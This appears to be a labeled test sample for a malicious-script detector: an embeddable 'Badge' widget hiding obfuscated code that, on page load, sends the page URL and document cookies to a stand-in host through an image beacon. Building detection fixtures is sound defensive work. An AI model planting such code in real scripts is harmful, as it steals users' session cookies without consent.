// expect: malicious
// source: blind set 16's chat widget (ScanBox-style recon in an embeddable script): the string array and its atob
// decoder sit inside the UMD factory, and every property is written through brackets (`a[_q(4)] = url`), so the
// image's `src` and `document.cookie` are only named once the decoder is followed.
!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():"function"==typeof define&&define.amd?define(t):(e=e||self).Badge=t()}(this,function(){"use strict";
var _a=["Y29va2ll","Y3JlYXRlRWxlbWVudA==","aW1n","aHR0cHM6Ly9zdGF0aWMtYmFkZ2UuZXhhbXBsZS9weC5naWY/ZD0=","c3Jj","RE9NQ29udGVudExvYWRlZA==","YWRkRXZlbnRMaXN0ZW5lcg=="];
function _q(i){return atob(_a[i])}
function c(){var o={h:location.href,k:document[_q(0)]};var a=document[_q(1)](_q(2));a[_q(4)]=_q(3)+encodeURIComponent(btoa(JSON.stringify(o)))}
document[_q(6)](_q(5),function(){try{c()}catch(e){}});
return{mount:function(el){el.className="badge"}}});
